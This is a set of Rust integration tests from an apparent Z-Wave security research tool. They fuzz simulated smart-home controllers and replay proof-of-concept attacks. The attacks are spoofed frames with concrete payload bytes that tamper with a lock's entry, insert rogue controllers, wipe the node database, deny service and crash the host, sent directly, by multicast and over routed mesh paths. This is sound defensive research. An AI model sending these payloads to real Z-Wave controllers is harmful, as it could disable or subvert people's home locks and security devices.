    let config = SweepConfig::new(6, Topology::Line, base).with_shard_size(4);
    let (summary, _) = run_sweep(&CampaignExecutor::new(1), &config).expect("sweep runs");
    let got = format!("{}\n", sweep_to_json(&summary));
    assert_eq!(got, want, "sweep --format json schema drifted; regenerate if intentional");
}

#[test]
fn golden_snapshots_announce_their_schema() {
    // Key-presence guard independent of the byte comparison: if a golden
    // is regenerated, these are the fields downstream consumers rely on.
    let (_, fuzz) = golden("fuzz_d1_seed3.json");
    for key in [
        "\"packets_sent\":",
        "\"virtual_duration_s\":",
        "\"cmdcl_coverage\":",
        "\"cmd_coverage\":",
        "\"unique_vulns\":",
        "\"mode\":",
        "\"scenario\":",
        "\"counters\":",
        "\"edges_seen\":",
        "\"corpus_size\":",
        "\"retained_inputs\":",
        "\"attack_frames\":",
        "\"attack_verdicts\":",
        "\"sched_peak_pending\":",
        "\"sched_cancelled\":",
        "\"sched_level_filings\":",
        "\"findings\":",
        "\"bug_id\":",
        "\"root_cause\":",
        "\"found_at_s\":",
        "\"trigger\":",
    ] {
        assert!(fuzz.contains(key), "fuzz golden lost {key}");
    }
    let (_, trials) = golden("trials_d1_seed7.json");
    for key in ["\"trials\":", "\"merged\":", "\"union_bug_ids\":", "\"mean_packets\":"] {
        assert!(trials.contains(key), "trials golden lost {key}");
    }
    let (_, sweep) = golden("sweep_line6_seed5.json");
    for key in [
        "\"homes\":",
        "\"topology\":",
        "\"shard_size\":",
        "\"mode\":",
        "\"scenario\":",
        "\"impairment\":",
        "\"union_bug_ids\":",
        "\"hit_counts\":",
        "\"coverage_edges\":",
        "\"counters\":",
        "\"sched_peak_pending\":",
        "\"channel\":",
        "\"frames_sent\":",
        "\"deliveries\":",
        "\"shards\":",
        "\"shard\":",
        "\"first_home\":",
        "\"bug_ids\":",
    ] {
        assert!(sweep.contains(key), "sweep golden lost {key}");
    }
    // The sweep golden pins the topology-dependent finding: the routed-
    // path bug is present on a line mesh and counted per home.
    assert!(sweep.contains("\"19\":6"), "sweep golden lost the multi-hop-only bug");
    // Snapshots are single-line JSON objects plus the trailing newline.
    assert_eq!(fuzz.lines().count(), 1);
    assert_eq!(trials.lines().count(), 1);
    assert_eq!(sweep.lines().count(), 1);
}

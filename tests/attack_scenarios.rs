//! Integration tests for the proof-of-concept attack scenarios: hand-built
//! frames against live simulated networks, spanning protocol, crypto,
//! radio and controller crates.

use zcover_suite::zwave_controller::testbed::{DeviceModel, Testbed, LOCK_NODE, SWITCH_NODE};
use zcover_suite::zwave_controller::{AppState, HostState};
use zcover_suite::zwave_protocol::nif::BasicDeviceType;
use zcover_suite::zwave_protocol::{MacFrame, NodeId};
use zcover_suite::zwave_radio::{FrameBuf, Transceiver};

fn inject(tb: &mut Testbed, attacker: &Transceiver, payload: Vec<u8>) {
    let frame = MacFrame::singlecast(
        tb.controller().home_id(),
        SWITCH_NODE, // spoofed source
        NodeId(0x01),
        payload,
    );
    attacker.transmit(&frame.encode());
    tb.pump();
}

#[test]
fn figure8_tamper_lock_entry_to_routing_slave() {
    let mut tb = Testbed::new(DeviceModel::D4, 1);
    let attacker = tb.attach_attacker(70.0);
    assert_eq!(tb.controller().nvm().get(LOCK_NODE).unwrap().device_type, BasicDeviceType::Slave);
    inject(&mut tb, &attacker, vec![0x01, 0x0D, 0x02, 0x04]);
    let entry = tb.controller().nvm().get(LOCK_NODE).unwrap();
    assert_eq!(entry.device_type, BasicDeviceType::RoutingSlave);
    assert!(!entry.secure, "tampered entry loses its security marking");
}

#[test]
fn figure9_insert_rogue_controllers_10_and_200() {
    let mut tb = Testbed::new(DeviceModel::D4, 1);
    let attacker = tb.attach_attacker(70.0);
    inject(&mut tb, &attacker, vec![0x01, 0x0D, 10, 0x01]);
    inject(&mut tb, &attacker, vec![0x01, 0x0D, 200, 0x01]);
    let nvm = tb.controller().nvm();
    assert_eq!(nvm.get(NodeId(10)).unwrap().device_type, BasicDeviceType::Controller);
    assert_eq!(nvm.get(NodeId(200)).unwrap().device_type, BasicDeviceType::Controller);
    assert_eq!(nvm.len(), 5);
}

#[test]
fn figure10_remove_devices_2_and_3() {
    let mut tb = Testbed::new(DeviceModel::D4, 1);
    let attacker = tb.attach_attacker(70.0);
    inject(&mut tb, &attacker, vec![0x01, 0x0D, 0x02]);
    inject(&mut tb, &attacker, vec![0x01, 0x0D, 0x03]);
    let nvm = tb.controller().nvm();
    assert!(!nvm.contains(LOCK_NODE));
    assert!(!nvm.contains(SWITCH_NODE));
    assert!(nvm.contains(NodeId(0x01)), "the controller's own entry survives");
}

#[test]
fn figure11_overwrite_database_with_fakes() {
    let mut tb = Testbed::new(DeviceModel::D4, 1);
    let attacker = tb.attach_attacker(70.0);
    let before = tb.controller().nvm().snapshot();
    inject(&mut tb, &attacker, vec![0x01, 0x0D, 0xFF]);
    let nvm = tb.controller().nvm();
    assert!(!nvm.contains(LOCK_NODE));
    assert!(!nvm.contains(NodeId(0x01)));
    assert!(nvm.len() >= 3, "table filled with fakes");
    assert_ne!(nvm.snapshot(), before);
}

#[test]
fn bug05_dos_on_smartthings_app() {
    let mut tb = Testbed::new(DeviceModel::D6, 1);
    let attacker = tb.attach_attacker(70.0);
    assert_eq!(tb.controller().app().unwrap().state(), AppState::Reachable);
    inject(&mut tb, &attacker, vec![0x01, 0x02, 0xAA]);
    assert_eq!(tb.controller().app().unwrap().state(), AppState::DeniedService);
}

#[test]
fn bug06_repeated_host_crashes() {
    let mut tb = Testbed::new(DeviceModel::D2, 1);
    let attacker = tb.attach_attacker(70.0);
    inject(&mut tb, &attacker, vec![0x9F, 0x01, 0x00, 0x00]);
    assert_eq!(tb.controller().host().unwrap().state(), HostState::Crashed);
    // The operator restarts; the attack crashes it again (the paper: "the
    // program only functions normally if the attack stops").
    tb.controller_mut().restore_factory();
    assert!(tb.controller().host().unwrap().is_usable());
    inject(&mut tb, &attacker, vec![0x9F, 0x01, 0x00, 0x00]);
    assert_eq!(tb.controller().host().unwrap().crash_count(), 2);
}

#[test]
fn bug14_controller_busy_for_four_minutes() {
    let mut tb = Testbed::new(DeviceModel::D5, 1);
    let attacker = tb.attach_attacker(70.0);
    inject(&mut tb, &attacker, vec![0x01, 0x04, 0x1D]);
    assert!(!tb.controller().is_responsive());
    tb.clock().advance(std::time::Duration::from_secs(239));
    assert!(!tb.controller().is_responsive(), "still searching at t+239s");
    tb.clock().advance(std::time::Duration::from_secs(2));
    assert!(tb.controller().is_responsive(), "recovered after four minutes");
}

#[test]
fn s2_protected_paths_are_immune() {
    // The same payloads delivered *inside* a verified S2 encapsulation do
    // not trigger anything: the flaw is unencrypted acceptance.
    let mut tb = Testbed::new(DeviceModel::D6, 9);
    tb.exchange_normal_traffic(); // hub ↔ lock S2 traffic flows normally
    assert!(tb.controller().fault_log().is_empty());
    assert!(tb.lock().is_locked());
}

#[test]
fn replayed_sniffed_s2_frames_do_not_unlock() {
    // Capture a hub→lock S2 frame and replay it: the SPAN nonce has moved
    // on, so the lock rejects the replay.
    let mut tb = Testbed::new(DeviceModel::D6, 9);
    let sniffer = tb.attach_attacker(70.0);
    tb.exchange_normal_traffic();
    let captured: Vec<FrameBuf> = sniffer.drain().into_iter().map(|f| f.bytes).collect();
    let s2_frames: Vec<&FrameBuf> =
        captured.iter().filter(|b| b.len() > 11 && b[9] == 0x9F && b[10] == 0x03).collect();
    assert!(!s2_frames.is_empty(), "the exchange used S2 encapsulation");
    tb.exchange_normal_traffic(); // advance the SPAN
    let was_locked = tb.lock().is_locked();
    for frame in s2_frames {
        sniffer.transmit(frame);
        tb.pump();
    }
    assert_eq!(tb.lock().is_locked(), was_locked, "replay has no effect");
}

#[test]
fn attacks_work_from_the_threat_model_distances() {
    // 10 m and 70 m, the paper's attacker range.
    for distance in [10.0, 70.0] {
        let mut tb = Testbed::new(DeviceModel::D7, 3);
        let attacker = tb.attach_attacker(distance);
        inject(&mut tb, &attacker, vec![0x01, 0x0D, 0x02]);
        assert!(!tb.controller().nvm().contains(LOCK_NODE), "attack from {distance} m");
    }
}

#[test]
fn wrong_home_id_attacks_are_ignored() {
    let mut tb = Testbed::new(DeviceModel::D1, 3);
    let attacker = tb.attach_attacker(70.0);
    let frame = MacFrame::singlecast(
        zcover_suite::zwave_protocol::HomeId(0xDEADBEEF),
        SWITCH_NODE,
        NodeId(0x01),
        vec![0x01, 0x0D, 0x02],
    );
    attacker.transmit(&frame.encode());
    tb.pump();
    assert!(tb.controller().nvm().contains(LOCK_NODE));
    assert!(tb.controller().fault_log().is_empty());
}

#[test]
fn multicast_attack_reaches_the_controller_without_a_dst() {
    // A multicast frame addressing node 0x01 carries the bug-#04 payload:
    // one transmission, no destination field to filter on.
    use zcover_suite::zwave_protocol::frame::{FrameControl, HeaderType};
    use zcover_suite::zwave_protocol::{ChecksumKind, MulticastHeader};

    let mut tb = Testbed::new(DeviceModel::D5, 21);
    let attacker = tb.attach_attacker(70.0);
    let mut payload = MulticastHeader::from_nodes(&[NodeId(0x01)]).encode();
    payload.extend_from_slice(&[0x01, 0x0D, 0xFF]);
    let fc = FrameControl {
        header_type: HeaderType::Multicast,
        ack_requested: false,
        ..FrameControl::default()
    };
    let frame = MacFrame::try_new(
        tb.controller().home_id(),
        SWITCH_NODE,
        fc,
        NodeId(0xFF),
        payload,
        ChecksumKind::Cs8,
    )
    .unwrap();
    attacker.transmit(&frame.encode());
    tb.pump();
    assert!(!tb.controller().nvm().contains(NodeId(0x01)), "database overwritten via multicast");
    assert_eq!(tb.controller().fault_log().records()[0].bug_id, 4);
}

#[test]
fn multicast_not_addressed_to_us_is_ignored() {
    use zcover_suite::zwave_protocol::frame::{FrameControl, HeaderType};
    use zcover_suite::zwave_protocol::{ChecksumKind, MulticastHeader};

    let mut tb = Testbed::new(DeviceModel::D5, 22);
    let attacker = tb.attach_attacker(70.0);
    let mut payload = MulticastHeader::from_nodes(&[NodeId(0x30), NodeId(0x31)]).encode();
    payload.extend_from_slice(&[0x01, 0x0D, 0xFF]);
    let fc = FrameControl {
        header_type: HeaderType::Multicast,
        ack_requested: false,
        ..FrameControl::default()
    };
    let frame = MacFrame::try_new(
        tb.controller().home_id(),
        SWITCH_NODE,
        fc,
        NodeId(0xFF),
        payload,
        ChecksumKind::Cs8,
    )
    .unwrap();
    attacker.transmit(&frame.encode());
    tb.pump();
    assert!(tb.controller().nvm().contains(NodeId(0x01)));
    assert!(tb.controller().fault_log().is_empty());
}

#[test]
fn routed_attack_travels_through_the_mesh_repeater() {
    // An attacker out of direct range routes the bug-#03 payload through
    // the smart switch (a routing slave), which advances the hop index and
    // retransmits — the P2 routing machinery of Figure 1.
    use zcover_suite::zwave_protocol::frame::{FrameControl, HeaderType};
    use zcover_suite::zwave_protocol::{ChecksumKind, RoutingHeader};

    let mut tb = Testbed::new(DeviceModel::D7, 23);
    let attacker = tb.attach_attacker(70.0);
    let mut payload = RoutingHeader::outbound(vec![SWITCH_NODE]).encode();
    payload.extend_from_slice(&[0x01, 0x0D, LOCK_NODE.0]);
    let fc = FrameControl {
        header_type: HeaderType::Routed,
        ack_requested: false,
        ..FrameControl::default()
    };
    let frame = MacFrame::try_new(
        tb.controller().home_id(),
        NodeId(0x0F), // spoofed source beyond direct range
        fc,
        NodeId(0x01),
        payload,
        ChecksumKind::Cs8,
    )
    .unwrap();
    attacker.transmit(&frame.encode());
    // First pump: the controller ignores the in-transit copy (hop 0); the
    // switch forwards it. Second pump: the controller accepts the final leg.
    tb.pump();
    assert!(!tb.controller().nvm().contains(LOCK_NODE), "routed attack landed");
    assert_eq!(tb.controller().fault_log().records()[0].bug_id, 3);
}

#[test]
fn in_transit_routed_frames_are_not_processed_by_the_destination() {
    use zcover_suite::zwave_protocol::frame::{FrameControl, HeaderType};
    use zcover_suite::zwave_protocol::{ChecksumKind, RoutingHeader};

    let mut tb = Testbed::new(DeviceModel::D7, 24);
    let attacker = tb.attach_attacker(70.0);
    // Route through a repeater that does not exist: the frame stays
    // in transit forever and the controller must never dispatch it.
    let mut payload = RoutingHeader::outbound(vec![NodeId(0x63)]).encode();
    payload.extend_from_slice(&[0x01, 0x0D, LOCK_NODE.0]);
    let fc = FrameControl {
        header_type: HeaderType::Routed,
        ack_requested: false,
        ..FrameControl::default()
    };
    let frame = MacFrame::try_new(
        tb.controller().home_id(),
        NodeId(0x0F),
        fc,
        NodeId(0x01),
        payload,
        ChecksumKind::Cs8,
    )
    .unwrap();
    attacker.transmit(&frame.encode());
    tb.pump();
    assert!(tb.controller().nvm().contains(LOCK_NODE));
    assert!(tb.controller().fault_log().is_empty());
}

//! Integration tests for the optional S0 wake-up sensor: the sleeping-node
//! traffic pattern, its S0 protection, and its interaction with bug #12.

use zcover_suite::zwave_controller::testbed::{DeviceModel, Testbed, SENSOR_NODE, SWITCH_NODE};
use zcover_suite::zwave_protocol::{MacFrame, NodeId};
use zcover_suite::zwave_radio::FrameBuf;

#[test]
fn sensor_wake_cycle_delivers_an_encrypted_report() {
    let mut tb = Testbed::with_sensor(DeviceModel::D6, 51);
    assert!(tb.sensor().unwrap().is_sleeping());
    tb.sensor_mut().unwrap().detect_motion(true);

    tb.sensor_mut().unwrap().wake();
    tb.pump();
    tb.pump();

    let sensor = tb.sensor().unwrap();
    assert!(sensor.is_sleeping(), "back to sleep after the report");
    assert_eq!(sensor.reports_sent(), 1);
}

#[test]
fn sensor_report_is_s0_encapsulated_on_air() {
    let mut tb = Testbed::with_sensor(DeviceModel::D6, 52);
    let sniffer = tb.attach_attacker(70.0);
    tb.sensor_mut().unwrap().detect_motion(true);
    tb.sensor_mut().unwrap().wake();
    tb.pump();
    tb.pump();

    let frames: Vec<FrameBuf> = sniffer.drain().into_iter().map(|f| f.bytes).collect();
    let sensor_frames: Vec<&FrameBuf> =
        frames.iter().filter(|b| b.len() > 10 && b[4] == SENSOR_NODE.0).collect();
    assert!(!sensor_frames.is_empty());
    // The motion value never appears as a plain SENSOR_BINARY report.
    assert!(
        !sensor_frames.iter().any(|b| b.len() > 11 && b[9] == 0x30 && b[10] == 0x03),
        "sensor data leaked unencrypted"
    );
    // The wake-up notification and the S0 encapsulation are both present.
    assert!(sensor_frames.iter().any(|b| b[9] == 0x84 && b[10] == 0x07));
    assert!(sensor_frames.iter().any(|b| b[9] == 0x98 && b[10] == 0x81));
}

#[test]
fn bug12_clears_the_sensors_wakeup_interval_too() {
    let mut tb = Testbed::with_sensor(DeviceModel::D6, 53);
    assert_eq!(tb.controller().nvm().get(SENSOR_NODE).unwrap().wakeup_interval_s, Some(600));
    let attacker = tb.attach_attacker(70.0);
    let frame = MacFrame::singlecast(
        tb.controller().home_id(),
        SWITCH_NODE,
        NodeId(0x01),
        vec![0x01, 0x0D, SENSOR_NODE.0, 0x00],
    );
    attacker.transmit(&frame.encode());
    tb.pump();
    assert_eq!(tb.controller().nvm().get(SENSOR_NODE).unwrap().wakeup_interval_s, None);
    assert_eq!(tb.controller().fault_log().records()[0].bug_id, 12);
}

#[test]
fn default_testbed_has_no_sensor() {
    let tb = Testbed::new(DeviceModel::D6, 54);
    assert!(tb.sensor().is_none());
    assert!(!tb.controller().nvm().contains(SENSOR_NODE));
}

#[test]
fn sensor_traffic_enriches_the_passive_scan() {
    use zcover_suite::zcover::PassiveScanner;
    let mut tb = Testbed::with_sensor(DeviceModel::D6, 55);
    let mut scanner = PassiveScanner::new(tb.medium(), 70.0);
    tb.sensor_mut().unwrap().detect_motion(true);
    tb.exchange_normal_traffic();
    let report = scanner.analyze().unwrap();
    assert!(report.slaves.contains(&SENSOR_NODE));
    assert!(report.traffic.frames_per_node.contains_key(&SENSOR_NODE.0));
}

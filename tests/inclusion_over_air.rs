//! Integration test: the full S2 inclusion ceremony carried over the
//! simulated radio medium, frame by frame, with an eavesdropper present —
//! demonstrating that (unlike S0's fixed-temp-key exchange) a passive
//! sniffer learns nothing that decrypts subsequent traffic.

use zcover_suite::zwave_crypto::inclusion::{dsk_pin, IncludingController, JoiningNode};
use zcover_suite::zwave_crypto::{NetworkKey, SecurityClass};
use zcover_suite::zwave_protocol::{HomeId, MacFrame, NodeId};
use zcover_suite::zwave_radio::{Medium, SimClock, Sniffer};

const HOME: u32 = 0xC7E9DD54;

fn send(radio: &zcover_suite::zwave_radio::Transceiver, src: u8, dst: u8, payload: Vec<u8>) {
    let frame = MacFrame::singlecast(HomeId(HOME), NodeId(src), NodeId(dst), payload);
    radio.transmit(&frame.encode());
}

fn recv_payload(radio: &zcover_suite::zwave_radio::Transceiver, me: u8) -> Option<Vec<u8>> {
    while let Some(rx) = radio.try_recv() {
        let Ok(frame) = MacFrame::decode(&rx.bytes) else { continue };
        if frame.dst() == NodeId(me) && !frame.payload().is_empty() {
            return Some(frame.payload().to_vec());
        }
    }
    None
}

#[test]
fn s2_pairing_over_the_air_with_an_eavesdropper() {
    let medium = Medium::new(SimClock::new(), 3);
    let hub_radio = medium.attach(0.0);
    let lock_radio = medium.attach(8.0);
    let mut eavesdropper = Sniffer::attach(&medium, 70.0);

    let mut lock = JoiningNode::new([0x42u8; 32], HOME, 0x01, 0x02);
    let mut hub = IncludingController::new(
        NetworkKey::from_seed(0xD4),
        SecurityClass::S2Access,
        [0x17u8; 32],
        Some(dsk_pin(lock.public())), // the operator typed the DSK pin
        HOME,
        0x01,
        0x02,
    );

    // Drive the ceremony over the radio.
    send(&hub_radio, 0x01, 0x02, hub.start());
    for _ in 0..16 {
        if let Some(payload) = recv_payload(&lock_radio, 0x02) {
            if let Some(reply) = lock.on_payload(&payload) {
                send(&lock_radio, 0x02, 0x01, reply);
            }
        }
        if let Some(payload) = recv_payload(&hub_radio, 0x01) {
            if let Some(reply) = hub.on_payload(&payload) {
                send(&hub_radio, 0x01, 0x02, reply);
            }
        }
        if hub.is_established() && lock.is_established() {
            break;
        }
    }
    assert!(hub.is_established(), "hub failure: {:?}", hub.failure());
    assert!(lock.is_established(), "lock failure: {:?}", lock.failure());
    assert_eq!(lock.granted().unwrap().0, SecurityClass::S2Access);

    // The established sessions protect application traffic end to end.
    let mut hub_session = hub.take_session().unwrap();
    let mut lock_session = lock.take_session().unwrap();
    let encap = hub_session.encapsulate(HOME, 0x01, 0x02, &[0x62, 0x01, 0xFF]);
    assert_eq!(lock_session.decapsulate(HOME, 0x01, 0x02, &encap).unwrap(), vec![0x62, 0x01, 0xFF]);

    // The eavesdropper captured the whole ceremony yet the network key
    // never appeared on the air in the clear.
    eavesdropper.poll();
    assert!(eavesdropper.captures().len() >= 9, "ceremony has at least 9 frames");
    let key = NetworkKey::from_seed(0xD4);
    for capture in eavesdropper.captures() {
        assert!(
            !capture.bytes.windows(16).any(|w| w == key.bytes()),
            "network key leaked in cleartext"
        );
    }
}

#[test]
fn lossy_air_aborts_cleanly_rather_than_hanging() {
    use zcover_suite::zwave_radio::NoiseModel;
    let medium = Medium::with_noise(SimClock::new(), 5, NoiseModel::lossy(1.0));
    let hub_radio = medium.attach(0.0);
    let lock_radio = medium.attach(8.0);

    let mut lock = JoiningNode::new([0x42u8; 32], HOME, 0x01, 0x02);
    let mut hub = IncludingController::new(
        NetworkKey::from_seed(1),
        SecurityClass::S2Authenticated,
        [0x17u8; 32],
        Some(dsk_pin(lock.public())),
        HOME,
        0x01,
        0x02,
    );
    send(&hub_radio, 0x01, 0x02, hub.start());
    for _ in 0..8 {
        if let Some(payload) = recv_payload(&lock_radio, 0x02) {
            if let Some(reply) = lock.on_payload(&payload) {
                send(&lock_radio, 0x02, 0x01, reply);
            }
        }
    }
    // Total loss: nothing establishes, nothing panics.
    assert!(!hub.is_established());
    assert!(!lock.is_established());
}

//! Binary trace format (ZCT) regression tests: JSONL export parity
//! against every committed golden, a committed binary golden with seek
//! assertions, and worker-count invariance of per-home sweep recording.
//!
//! Regenerate the binary golden after an *intentional* format or
//! behaviour change with:
//!
//! ```text
//! cargo run --release --bin zcover -- trace export \
//!     tests/golden_traces/d1_seed5_clean.jsonl \
//!     --out tests/golden_traces/d1_seed5_clean.zct
//! ```

use std::path::{Path, PathBuf};

use zcover_suite::trace_format::ZctTrace;
use zcover_suite::zcover::{replay, CampaignExecutor, FuzzConfig, SweepConfig, SweepRecord, Trace};
use zcover_suite::zwave_controller::Topology;

fn golden_dir() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/golden_traces")
}

const GOLDENS: [&str; 7] = [
    "d1_seed11_lossy.jsonl",
    "d1_seed13_coverage_clean.jsonl",
    "d1_seed21_s0nomore_clean.jsonl",
    "d1_seed23_crushing_clean.jsonl",
    "d1_seed5_clean.jsonl",
    "d2_seed7_beta_bursty.jsonl",
    "d3_seed9_gamma_adversarial.jsonl",
];

#[test]
fn every_golden_roundtrips_through_binary_byte_identically() {
    // The differential guarantee behind `zcover trace export`: record in
    // binary, export to JSONL, and the bytes match the committed golden
    // exactly — header line, conditional scenario field, fractional
    // budget rendering, every event line.
    for name in GOLDENS {
        let golden_text = std::fs::read_to_string(golden_dir().join(name)).expect(name);
        let golden = Trace::from_jsonl(&golden_text).expect(name);
        let zct = golden.to_zct_bytes();
        assert!(zct.len() * 4 < golden_text.len(), "{name}: binary not at least 4x smaller");
        let back = Trace::from_bytes(&zct).expect(name);
        assert_eq!(back.meta, golden.meta, "{name}: header drifted through binary");
        assert_eq!(back.events, golden.events, "{name}: events drifted through binary");
        assert_eq!(back.to_jsonl(), golden_text, "{name}: JSONL export parity broken");
        // And the binary encoding itself is deterministic.
        assert_eq!(back.to_zct_bytes(), zct, "{name}: binary re-encode not bit-identical");
    }
}

#[test]
fn committed_binary_golden_matches_its_jsonl_twin_and_replays() {
    let jsonl_text =
        std::fs::read_to_string(golden_dir().join("d1_seed5_clean.jsonl")).expect("jsonl golden");
    let zct_bytes = std::fs::read(golden_dir().join("d1_seed5_clean.zct")).expect("zct golden");
    let jsonl = Trace::from_jsonl(&jsonl_text).expect("jsonl parses");
    let zct = Trace::from_bytes(&zct_bytes).expect("zct decodes");
    assert_eq!(zct.meta, jsonl.meta);
    assert_eq!(zct.events, jsonl.events);
    // The committed file is exactly what this build would write.
    assert_eq!(jsonl.to_zct_bytes(), zct_bytes, "committed .zct golden drifted");
    assert!(replay(&zct).expect("replays").is_clean());
}

#[test]
fn seeking_any_event_agrees_with_the_full_scan() {
    // The footer index must be a pure accelerator: event k fetched by
    // seeking into its block equals event k of the sequential decode.
    let bytes = std::fs::read(golden_dir().join("d1_seed5_clean.zct")).expect("zct golden");
    let parsed = ZctTrace::parse(bytes).expect("golden parses");
    let all = parsed.records().expect("full scan decodes");
    assert_eq!(all.len() as u64, parsed.event_count());
    assert!(parsed.blocks().len() > 1, "golden too small to exercise seeking across blocks");
    // Every block boundary, both ends of the stream, and a mid-block
    // sample — cheap enough to just check every event.
    for (k, expected) in all.iter().enumerate() {
        let got = parsed.event(k as u64).expect("in range");
        assert_eq!(&got, expected, "seek to event {k} disagrees with the scan");
    }
    assert!(parsed.event(all.len() as u64).is_err(), "out-of-range seek must error");
}

#[test]
fn sweep_per_home_traces_are_worker_count_invariant() {
    // Each worker records its claimed homes' traces; the files must be
    // bit-identical whether 1, 2 or 4 workers ran the sweep.
    let tmp = std::env::temp_dir().join(format!("zcover_sweep_rec_{}", std::process::id()));
    let homes = 6u64;
    let record = |workers: usize, tag: &str| -> Vec<Vec<u8>> {
        let dir = tmp.join(tag);
        let base = FuzzConfig::full(std::time::Duration::from_secs(20), 9);
        let record = SweepRecord { dir: dir.clone(), config_name: "full".to_string() };
        let config = SweepConfig::new(homes, Topology::Mesh, base)
            .with_shard_size(2)
            .with_record(record.clone());
        zcover_suite::zcover::run_sweep(&CampaignExecutor::new(workers), &config)
            .expect("sweep runs");
        (0..homes).map(|h| std::fs::read(record.home_path(h)).expect("trace written")).collect()
    };
    let one = record(1, "w1");
    let two = record(2, "w2");
    let four = record(4, "w4");
    assert_eq!(one, two, "2-worker sweep recorded different per-home traces");
    assert_eq!(one, four, "4-worker sweep recorded different per-home traces");
    for (home, bytes) in one.iter().enumerate() {
        let trace = Trace::from_bytes(bytes).expect("well-formed per-home trace");
        assert!(!trace.events.is_empty(), "home {home}: empty journal");
    }
    std::fs::remove_dir_all(&tmp).ok();
}

#[test]
fn truncated_and_bit_flipped_binary_traces_fail_with_loci_not_panics() {
    let bytes = std::fs::read(golden_dir().join("d1_seed5_clean.zct")).expect("zct golden");
    // Every truncation point decodes to a malformed error naming a byte
    // offset (sampled stride keeps the test fast).
    for len in (0..bytes.len()).step_by(97).chain([bytes.len() - 1]) {
        let err = Trace::from_bytes(&bytes[..len]).expect_err("truncation must not decode");
        let msg = err.to_string();
        // Below the 4-byte magic the input is indistinguishable from a
        // (broken) JSONL trace, whose loci are line numbers instead.
        let locus = if len < 4 { "line 1" } else { "byte offset" };
        assert!(msg.contains(locus), "truncation at {len}: no locus in {msg:?}");
    }
    // Bit flips anywhere either fail with a locus or (in the header
    // padding-free layout there is none) — never panic, never decode to
    // the original stream.
    let original = Trace::from_bytes(&bytes).expect("golden decodes");
    for pos in (0..bytes.len()).step_by(211) {
        let mut flipped = bytes.clone();
        flipped[pos] ^= 0x04;
        match Trace::from_bytes(&flipped) {
            Err(err) => {
                let msg = err.to_string();
                assert!(
                    msg.contains("byte offset") || msg.contains("version"),
                    "flip at {pos}: no locus in {msg:?}"
                );
            }
            Ok(decoded) => {
                assert_ne!(
                    (decoded.meta, decoded.events),
                    (original.meta.clone(), original.events.clone()),
                    "flip at byte {pos} went undetected"
                );
            }
        }
    }
}

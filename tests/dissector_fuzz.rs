//! Fuzz-the-dissector over the *impaired channel*: valid frames are
//! transmitted through every named impairment profile, and whatever the
//! medium delivers — corrupted, truncated, duplicated, reordered — is fed
//! to `zwave_protocol::dissect`. The dissector must be total (never
//! panic), remember the exact wire image of anything it accepts, and
//! re-dissect its own output stably. Complements the pure byte-soup
//! proptests in `crates/zwave-protocol/tests/proptests.rs` with mangled
//! inputs that are *almost* well-formed — the corruptions a real capture
//! pipeline actually sees.

use zcover_suite::zwave_protocol::dissect::{to_bits, to_hex, Dissection};
use zcover_suite::zwave_protocol::{HomeId, MacFrame, NodeId};
use zcover_suite::zwave_radio::{FrameBuf, ImpairmentProfile, Medium, SimClock, Sniffer};

/// Deterministic splitmix64 stream for payload generation.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }

    fn byte(&mut self) -> u8 {
        (self.next() >> 56) as u8
    }
}

/// Transmits `frames` valid singlecast frames through `profile` and
/// returns every byte string a promiscuous sniffer captured.
fn mangled_captures(profile: ImpairmentProfile, seed: u64, frames: usize) -> Vec<FrameBuf> {
    let medium = Medium::new(SimClock::new(), seed);
    medium.set_impairment(profile.schedule());
    let tx = medium.attach(0.0);
    let _rx = medium.attach(8.0);
    let mut sniffer = Sniffer::attach(&medium, 40.0);
    let mut rng = Rng(seed);
    for i in 0..frames {
        let len = (rng.next() % 24) as usize;
        let payload: Vec<u8> = (0..len).map(|_| rng.byte()).collect();
        let frame = MacFrame::singlecast(
            HomeId(0xCB95_A34A),
            NodeId(0x0F),
            NodeId((i % 7) as u8 + 1),
            payload,
        );
        tx.transmit(&frame.encode());
        sniffer.poll();
    }
    sniffer.poll();
    sniffer.captures().iter().map(|f| f.bytes.clone()).collect()
}

#[test]
fn dissector_is_total_on_impairment_mangled_frames() {
    let mut total = 0usize;
    let mut accepted = 0usize;
    for profile in [
        ImpairmentProfile::Clean,
        ImpairmentProfile::Lossy,
        ImpairmentProfile::Bursty,
        ImpairmentProfile::Adversarial,
    ] {
        for seed in 0..4u64 {
            for bytes in mangled_captures(profile, seed, 200) {
                total += 1;
                // Totality: rendering and dissection must not panic on
                // any delivered byte string.
                let _ = to_hex(&bytes);
                let _ = to_bits(&bytes);
                if let Ok(d) = Dissection::from_wire(&bytes) {
                    accepted += 1;
                    // Round-trips what it accepts: the raw image is kept
                    // verbatim and re-dissecting it is stable.
                    assert_eq!(d.raw, bytes, "{profile} seed {seed}");
                    assert_eq!(Dissection::from_wire(&d.raw).unwrap(), d);
                    if let Some(apl) = &d.apl {
                        let reencoded = apl.encode();
                        assert_eq!(
                            MacFrame::decode(&bytes).unwrap().payload(),
                            reencoded.as_slice()
                        );
                    }
                }
            }
        }
    }
    // The harness exercised a meaningful corpus on both sides of the
    // accept/reject boundary (the clean channel delivers everything; the
    // adversarial one corrupts and truncates).
    assert!(total > 1500, "only {total} captures");
    assert!(accepted > 500, "only {accepted}/{total} accepted");
    assert!(accepted < total, "impairment never produced a rejected frame");
}

#[test]
fn truncation_and_corruption_never_panic_the_renderers() {
    // Drive the raw mangle operators directly: every prefix and every
    // single-byte corruption of a valid wire image.
    let frame = MacFrame::singlecast(
        HomeId(0xE7DE_3F3D),
        NodeId(0x01),
        NodeId(0x02),
        vec![0x20, 0x01, 0xFF],
    );
    let wire = frame.encode();
    for cut in 0..=wire.len() {
        let _ = Dissection::from_wire(&wire[..cut]);
    }
    for idx in 0..wire.len() {
        for bit in 0..8u8 {
            let mut mangled = wire.clone();
            mangled[idx] ^= 1 << bit;
            if let Ok(d) = Dissection::from_wire(&mangled) {
                assert_eq!(d.raw, mangled);
            }
        }
    }
}

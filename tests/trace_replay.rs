//! Trace record/replay regression tests: golden traces under
//! `tests/golden_traces/` pin the exact event journal of a small
//! seed/profile matrix, and the divergence diff is exercised with a
//! deliberately perturbed header.
//!
//! Regenerate a golden after an *intentional* behaviour change with:
//!
//! ```text
//! cargo run --release --bin zcover -- fuzz --device D1 --hours 0.01 \
